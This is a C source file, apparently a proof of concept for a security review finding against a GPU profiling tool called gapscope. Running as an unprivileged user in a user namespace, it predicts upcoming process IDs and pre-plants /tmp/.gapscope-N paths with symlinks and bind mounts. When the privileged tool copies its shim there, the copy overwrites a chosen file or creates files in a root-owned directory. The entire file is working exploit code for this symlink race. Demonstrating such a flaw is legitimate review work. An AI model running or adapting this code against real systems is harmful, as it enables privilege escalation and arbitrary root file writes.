/*
 * Review finding 1, the attacker's side: run as an unprivileged user under
 * `unshare -Urm`, it mounts a tmpfs of its own on /tmp and plants
 * /tmp/.gapscope-N (the directory an old gapscope copied its shim into,
 * N = gapscope's pid) for the next RANGE pids, and for any N read from
 * stdin (one a line, answered "planted N"). MODE:
 *
 *   file  .gapscope-N/ with libgapscope_cupti.so -> TARGET (overwrite)
 *   dir   .gapscope-N -> TARGET (a file created in a root directory)
 *   bind  .gapscope-N/x, TARGET bind-mounted on it (its files deleted),
 *         and libgapscope_cupti.so -> SINK, a file of the attacker's, so
 *         that the copy succeeds
 *
 * Then it forks the GPU process gapscope is pointed at: in the same
 * namespaces, with no capabilities left, mapping GPULIB; it says
 * "target PID" and blocks in read(2). "range LO HI" says what was planted.
 * At the end of stdin both go.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *mode, *target, *sink;

static void die(const char *what, const char *arg)
{
	fprintf(stderr, "plant: %s %s: %m\n", what, arg ? arg : "");
	exit(2);
}

static void plant(long n)
{
	char dir[64], path[128];
	snprintf(dir, sizeof(dir), "/tmp/.gapscope-%ld", n);
	if (!strcmp(mode, "dir")) {
		if (symlink(target, dir) != 0 && errno != EEXIST)
			die("symlink", dir);
		return;
	}
	if (mkdir(dir, 0777) != 0) {
		if (errno == EEXIST)
			return;
		die("mkdir", dir);
	}
	chmod(dir, 0777);
	snprintf(path, sizeof(path), "%s/%s", dir, "libgapscope_cupti.so");
	if (symlink(!strcmp(mode, "bind") ? sink : target, path) != 0)
		die("symlink", path);
	if (!strcmp(mode, "bind")) {
		snprintf(path, sizeof(path), "%s/x", dir);
		if (mkdir(path, 0777) != 0)
			die("mkdir", path);
		if (mount(target, path, NULL, MS_BIND, NULL) != 0)
			die("bind mount", path);
	}
}

int main(int argc, char **argv)
{
	if (argc != 6) {
		fprintf(stderr, "usage: plant MODE TARGET SINK GPULIB RANGE\n");
		return 2;
	}
	mode = argv[1];
	target = argv[2];
	sink = argv[3];
	const char *gpulib = argv[4];
	long range = atol(argv[5]);
	if (mount("none", "/tmp", "tmpfs", 0, "mode=755") != 0)
		die("mount", "/tmp");
	/* Where pids go next (pid_max wraps them round to 300). */
	long last = 0, max = 32768;
	FILE *f = fopen("/proc/sys/kernel/ns_last_pid", "r");
	if (!f || fscanf(f, "%ld", &last) != 1)
		die("read", "ns_last_pid");
	fclose(f);
	f = fopen("/proc/sys/kernel/pid_max", "r");
	if (f) {
		if (fscanf(f, "%ld", &max) != 1)
			max = 32768;
		fclose(f);
	}
	long lo = last + 1, n = lo;
	for (long i = 0; i < range; i++) {
		if (n >= max)
			n = 300;
		plant(n++);
	}
	printf("range %ld %ld %ld\n", lo, n - 1, max);
	fflush(stdout);

	int hold[2];
	if (pipe(hold) != 0)
		die("pipe", NULL);
	pid_t child = fork();
	if (child < 0)
		die("fork", NULL);
	if (child == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		close(hold[1]);
		/* An ordinary process of the user's: no capabilities, not even
		 * in its own user namespace. */
		struct __user_cap_header_struct h = {_LINUX_CAPABILITY_VERSION_3, 0};
		struct __user_cap_data_struct d[2];
		memset(d, 0, sizeof(d));
		if (syscall(SYS_capset, &h, d) != 0)
			die("capset", NULL);
		int fd = open(gpulib, O_RDONLY | O_CLOEXEC);
		if (fd < 0 || mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0) == MAP_FAILED)
			die("map", gpulib);
		close(fd);
		printf("target %d\n", getpid());
		fflush(stdout);
		char c;
		while (read(hold[0], &c, 1) > 0)
			;
		_exit(0);
	}
	close(hold[0]);
	char line[64];
	while (fgets(line, sizeof(line), stdin)) {
		long want = atol(line);
		if (want > 0)
			plant(want);
		printf("planted %ld\n", want);
		fflush(stdout);
	}
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
	return 0;
}
